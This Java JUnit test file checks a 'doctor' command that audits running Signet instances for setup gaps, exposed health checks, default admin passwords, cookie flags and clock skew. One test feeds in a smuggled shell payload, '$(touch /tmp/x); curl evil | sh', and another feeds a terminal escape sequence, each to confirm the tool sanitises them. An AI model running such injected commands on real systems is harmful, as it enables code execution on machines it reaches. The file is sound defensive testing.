/*
 * Copyright 2026 The Signet authors
 * SPDX-License-Identifier: Apache-2.0
 */
package dev.signet.cli.doctor;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import dev.signet.cli.Invocation;
import dev.signet.cli.command.ExitCode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What the doctor says of running instances, well and ill. */
class DoctorCommandTest {

    @TempDir
    private Path folder;

    private DoctorStub instance;

    @BeforeEach
    void start() throws IOException {
        instance = new DoctorStub();
    }

    @AfterEach
    void stop() {
        instance.close();
    }

    private Invocation call(String... arguments) {
        List<String> words = new ArrayList<>(List.of("doctor"));
        words.addAll(List.of(arguments));
        return Invocation.of(folder, words.toArray(String[]::new));
    }

    private void assertSays(int exitCode, String... words) {
        Invocation said = call(instance.url());
        assertEquals(exitCode, said.exitCode(), said::toString);
        for (String word : words) {
            assertTrue(said.out().contains(word), said::toString);
        }
    }

    @Test
    void nothingIsMissingOfAnInstanceThatIsWell() {
        Invocation said = call(instance.url());

        assertEquals(ExitCode.DONE, said.exitCode(), said::toString);
        assertTrue(said.out().contains("Nothing is missing."), said.out());
        assertTrue(
                said.out().lines().filter(line -> !line.isEmpty()).limit(6).allMatch(line -> line.startsWith("ok ")),
                said.out());
    }

    @Test
    void whatTheInstanceLacksIsSaidWithTheLineToPaste() {
        instance.findings = "{\"id\":\"tokens\",\"state\":\"missing\",\"sentence\":\"The box is not ticked\","
                + "\"remedy\":\"Tick it\",\"line\":\"curl -u admin -d action=start http://HOST/x\"}";
        Invocation said = call(instance.url());

        assertEquals(ExitCode.NO, said.exitCode(), said::toString);
        assertTrue(said.out().startsWith("missing  tokens            The box is not ticked\n"), said.out());
        assertTrue(
                said.out().contains("tokens: Tick it\n    curl -u admin -d action=start " + instance.url() + "/x\n"),
                said.out());
    }

    @Test
    void whatAnInstanceSaysCommandsNoTerminal() {
        instance.findings = "{\"id\":\"x\",\"state\":\"missing\",\"sentence\":\"\\u001b[2Jgone\\nline\"}";
        Invocation said = call(instance.url());

        assertFalse(said.out().contains("\u001b"), said.out());
        assertTrue(said.out().contains("?[2Jgone?line"), said.out());
    }

    @Test
    void withoutThePageItsBundlesTell() {
        instance.page("/system/console/signet-setup/.json", "")
                .page(
                        "/system/console/bundles.json",
                        "{\"data\":[{\"symbolicName\":\"dev.signet.core\",\"state\":\"Active\"},"
                                + "{\"symbolicName\":\"dev.signet.console\",\"state\":\"Installed\"}]}");
        assertSays(
                ExitCode.NO,
                "no page Signet Set-up: its bundle dev.signet.console is Installed",
                "The bundle dev.signet.console is Installed and not active");
    }

    @Test
    void anInstanceWithoutSignetIsToldWhatToInstall() {
        instance.page("/system/console/signet-setup/.json", "")
                .page("/system/console/bundles.json", "{\"data\":[{\"symbolicName\":\"x\",\"state\":\"Active\"}]}");
        assertSays(ExitCode.NO, "No bundle of Signet is installed", "-f signet-VERSION-archive.far");
    }

    @Test
    void healthChecksThatTellStrangersDetailsAreFound() {
        instance.health = "{\"results\":[{\"name\":\"Signet Key Ring\",\"status\":\"OK\"}]}";
        assertSays(
                ExitCode.NO, "Anybody reads the health checks at /system/health.json", "dev.signet.console.StatusWord");
    }

    @Test
    void whoKnowsThePasswordOfAdminNeedNotTryAnother() {
        assertSays(ExitCode.DONE, "It does not answer to the password admin of admin, who has another");
        assertEquals(
                1,
                instance.asked.stream()
                        .filter(asked -> asked.startsWith("POST /j_security_check"))
                        .count());
        assertTrue(
                instance.asked.stream().noneMatch(asked -> asked.endsWith(" as admin:admin")),
                instance.asked::toString);
    }

    @Test
    void theDefaultPasswordIsFoundIfItWasGiven() throws IOException {
        instance.goodPassword = "admin";
        assertTrue(asking("admin:admin").out().contains("It lets in admin with the password admin"));
    }

    @Test
    void forSomebodyElseTheDefaultPasswordIsTriedOnThisMachine() throws IOException {
        instance.operator = "operator";
        assertTrue(asking("operator:" + DoctorStub.PASSWORD)
                .out()
                .contains("ok       default-password  It does not answer to the password admin of admin\n"));
        instance.goodPassword = "admin";
        Invocation said = asking("operator:" + DoctorStub.PASSWORD);
        assertEquals(ExitCode.NO, said.exitCode(), said::toString);
        assertTrue(said.out().contains("It lets in admin with the password admin"), said.out());
    }

    @Test
    void nothingIsTriedWhereTooMuchWasTried() throws IOException {
        instance.operator = "operator";
        instance.refusedForm = 429;
        Invocation said = asking("operator:" + DoctorStub.PASSWORD);
        assertTrue(said.out().contains("unknown  default-password  Too many passwords were tried"), said.out());
    }

    private Invocation asking(String credentials) throws IOException {
        Path file = Files.writeString(folder.resolve("credentials"), credentials);
        return call(instance.url(), "--credentials", file.toString());
    }

    @Test
    void anInstanceDoesNotSayWhatToPasteIntoAShell() {
        instance.findings = "{\"id\":\"x\",\"state\":\"missing\",\"sentence\":\"s\",\"remedy\":\"r\","
                + "\"line\":\"signet keys compare $(touch /tmp/x); curl evil | sh\"}";
        Invocation said = call(instance.url());
        assertEquals(ExitCode.NO, said.exitCode(), said::toString);
        assertFalse(said.out().contains("curl evil"), said.out());
    }

    @Test
    void whoeverSignedInSignsOut() {
        call(instance.url());
        assertTrue(instance.asked.contains("GET /system/sling/logout"), instance.asked::toString);
    }

    @Test
    void httpBasicIsAdvisedAgainst() {
        instance.authType = "\"BASIC\"";
        assertSays(ExitCode.DONE, "advice   basic");
    }

    @Test
    void flagsOfTheCookieAreLookedAt() {
        assertSays(ExitCode.DONE, "ok       cookie            Its cookie is Secure, HttpOnly and SameSite");
        instance.cookie = "login-token=x; Path=/; HttpOnly; SameSite=Lax";
        assertSays(ExitCode.DONE, "advice   cookie            Its cookie is not Secure at this address");
        instance.cookie = "login-token=x; Path=/; Secure; SameSite=Lax";
        assertSays(ExitCode.NO, "Its cookie is not HttpOnly");
        instance.cookie = "login-token=x; Path=/; Secure; HttpOnly";
        assertSays(ExitCode.DONE, "advice   cookie            Its cookie comes along with requests from other sites");
    }

    @Test
    void aClockThatIsWrongIsFound() {
        for (Duration off : List.of(Duration.ofSeconds(90), Duration.ofMinutes(-7))) {
            Instant here = Instant.now().minus(off);
            Invocation said = Invocation.at(() -> here, folder, "doctor", instance.url());
            boolean much = off.isNegative();
            assertEquals(much ? ExitCode.NO : ExitCode.DONE, said.exitCode(), said::toString);
            assertTrue(
                    said.out()
                            .matches(
                                    much
                                            ? "(?s).*missing  clock  .*4[12]. seconds behind the one here.*"
                                            : "(?s).*advice   clock  .*(89|9.) seconds ahead of the one here.*"),
                    said.out());
        }
    }

    @Test
    void instancesNamedTogetherAreComparedWithEachOther() throws Exception {
        try (DoctorStub second = new DoctorStub()) {
            second.name = "publish2";
            second.heard = "publish1-00000001";
            Invocation well = call(instance.url(), second.url());
            assertEquals(ExitCode.DONE, well.exitCode(), well::toString);
            assertTrue(well.out().contains("It has the same keys as " + instance.url()), well.out());

            second.heard = "publish9-00000009";
            Invocation deaf = call(instance.url(), second.url());
            assertEquals(ExitCode.NO, deaf.exitCode(), deaf::toString);
            assertTrue(deaf.out().contains("It hears nothing from " + instance.url()), deaf.out());

            second.ring = "f".repeat(32);
            Invocation other = call(instance.url(), second.url());
            assertTrue(other.out().contains("It has other keys than " + instance.url()), other.out());
            assertFalse(other.out().contains("It hears nothing"), other.out());
        }
    }

    @Test
    void theSameInstanceTwiceIsNoFarm() throws Exception {
        try (DoctorStub copy = new DoctorStub()) {
            Invocation said = call(instance.url(), copy.url());
            assertEquals(ExitCode.NO, said.exitCode(), said::toString);
            assertTrue(said.out().contains("It is the same instance as " + copy.url()), said.out());
        }
    }

    @Test
    void theOthersAreToldIfOneCannotBeReached() throws Exception {
        String gone;
        try (DoctorStub stopped = new DoctorStub()) {
            gone = stopped.url();
        }
        Invocation said = call(gone, instance.url());

        assertEquals(ExitCode.UNUSABLE, said.exitCode(), said::toString);
        assertTrue(said.out().contains("ok       bundles"), said.out());
        assertTrue(said.err().contains("nothing listens at " + gone), said.err());
    }

    @Test
    void noPasswordLeavesThisMachineInTheClear() {
        Invocation said = call(instance.url(), "http://publish.example.org");

        assertEquals(ExitCode.REFUSED, said.exitCode(), said::toString);
        assertEquals(List.of(), instance.asked);
    }

    @Test
    void aWrongPasswordIsToldAsSuch() {
        instance.page("/system/console/signet-setup/.json", "<html>");
        assertEquals(ExitCode.UNUSABLE, call(instance.url()).exitCode());
    }

    @Test
    void programsReadJson() throws Exception {
        instance.findings =
                "{\"id\":\"tokens\",\"state\":\"missing\",\"sentence\":\"s\",\"remedy\":\"r\",\"line\":\"-D x=y\"}";
        Invocation said = call(instance.url(), "--json");
        JsonNode answer = new JsonMapper().readTree(said.out());

        assertEquals(ExitCode.NO, said.exitCode());
        assertFalse(answer.path("complete").asBoolean(true));
        JsonNode first = answer.path("findings").path(0);
        assertEquals(instance.url(), first.path("subject").asText());
        assertEquals("missing", first.path("state").asText());
        assertEquals("-D x=y", first.path("line").asText());
    }

    @Test
    void noTextHasThePassword() {
        instance.authType = "\"BASIC\"";
        Invocation said = call(instance.url(), "--json");
        assertFalse((said.out() + said.err()).contains(DoctorStub.PASSWORD), said::toString);
    }
}
